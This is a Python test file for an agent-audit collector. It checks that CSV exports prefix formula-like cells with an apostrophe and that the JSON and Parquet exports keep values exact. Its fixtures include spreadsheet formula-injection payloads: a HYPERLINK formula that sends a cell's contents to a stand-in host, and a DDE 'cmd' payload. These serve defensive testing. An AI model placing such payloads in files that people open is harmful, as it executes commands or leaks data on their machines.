"""A stored value never becomes a spreadsheet formula in a CSV, and the exports keep it exact.

Found from outside: a task, answer or tool result starting with ``=``, ``+``,
``-`` or ``@``, after blanks or not (``=HYPERLINK("http://x/?"&A1,"open")``) went into
``agent-audit sql --format csv`` and the dashboard's CSV download as it was, so
the spreadsheet that opened the file evaluated it. Such text cells now start with
``'`` (collector/csv_cells.py); numbers stay numbers; ``--format json`` and the
Parquet export keep every value exactly as stored.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import duckdb
import httpx
import pytest
from opentelemetry.trace import Tracer

from collector.csv_cells import spreadsheet_text
from instrumentation import attributes as A
from tests.collector.ingest.otlp import export, record_spans
from tests.conftest import CollectorHandle
from tests.support import run_cli, wait_until

# Each way a spreadsheet starts a formula, as an agent or a tool could write it.
FORMULAS = [
    '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
    "  =1+1",
]
# Text a spreadsheet shows as it is: nothing to change.
PLAIN = ["plain answer", "a = b", "'quoted", "-5", " -5", "+1.5e3", "-.5", "", "42", "\t"]

PREFIX = "csvcell"


def test_a_cell_a_spreadsheet_would_evaluate_is_marked_as_text() -> None:
    for text in FORMULAS:
        assert spreadsheet_text(text) == "'" + text, text
    for text in PLAIN:
        assert spreadsheet_text(text) == text, text
    # A formula that merely looks numeric at its start is still a formula.
    assert spreadsheet_text("-5+cmd|'/C calc'!A0").startswith("'")
    assert spreadsheet_text("-1e5)") == "'-1e5)"


def _run_ids() -> list[str]:
    return [f"{PREFIX}{n}" for n in range(len(FORMULAS))]


def _record(tracer: Tracer) -> None:
    for run_id, formula in zip(_run_ids(), FORMULAS, strict=True):
        with tracer.start_as_current_span("invoke_agent ops") as run:
            run.set_attribute(A.GEN_AI_OPERATION_NAME, "invoke_agent")
            run.set_attribute(A.RUN_ID, run_id)
            run.set_attribute(A.RUN_TASK, formula)
            run.set_attribute(A.RUN_FINAL_ANSWER, formula)
            run.set_attribute(A.RUN_STATUS, "completed")


@pytest.fixture(scope="module")
def seeded(module_collector: CollectorHandle) -> CollectorHandle:
    export("http-protobuf", module_collector, record_spans(_record))

    def stored() -> bool:
        answer = httpx.get(
            f"{module_collector.api_url}/agent/runs", params={"q": PREFIX}, timeout=30
        ).json()
        return len(answer["runs"]) == len(FORMULAS)

    assert wait_until(stored, timeout_s=30)
    return module_collector


QUERY = (
    f"SELECT id, task, -5 AS n, (-12.5)::DECIMAL(38, 2) AS d, 'x' AS \"=col\""
    f" FROM agent_runs WHERE id LIKE '{PREFIX}%' ORDER BY id"
)


def test_cli_csv_marks_formulas_and_leaves_numbers(seeded: CollectorHandle) -> None:
    result = run_cli("sql", "--api", seeded.api_url, QUERY, "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0] == ["id", "task", "n", "d", "'=col"]
    tasks = {row[0]: row[1] for row in rows[1:]}
    for row in rows[1:]:
        assert (row[2], row[3]) == ("-5", "-12.5"), row
    # Every stored formula reads as text: the CLI shows a tab as spaces and a carriage
    # return as the visible ``\\x0d`` (as in all its output), which no spreadsheet evaluates.
    shown = {f"{PREFIX}4": "    =1+1", f"{PREFIX}5": "\\x0d=1+1", f"{PREFIX}6": "=1+1\n=2+2"}
    expected = {
        run_id: spreadsheet_text(shown.get(run_id, formula))
        for run_id, formula in zip(_run_ids(), FORMULAS, strict=True)
    }
    assert tasks == expected
    assert all(t.startswith("'") for run_id, t in tasks.items() if run_id != f"{PREFIX}5")
    assert tasks[f"{PREFIX}0"] == "'" + FORMULAS[0]


def test_json_and_parquet_keep_the_exact_value(seeded: CollectorHandle, tmp_path: Path) -> None:
    result = run_cli("sql", "--api", seeded.api_url, QUERY, "--format", "json")
    assert result.returncode == 0, result.stderr
    records = json.loads(result.stdout)
    assert [r["task"] for r in records] == FORMULAS

    done = run_cli("export", "--api", seeded.api_url, str(tmp_path / "snapshot"))
    assert done.returncode == 0, done.stderr
    with duckdb.connect() as con:
        stored = con.execute(
            f"SELECT task, final_answer FROM '{tmp_path / 'snapshot' / 'runs.parquet'}'"
            f" WHERE id LIKE '{PREFIX}%' ORDER BY id"
        ).fetchall()
    assert stored == [(f, f) for f in FORMULAS]
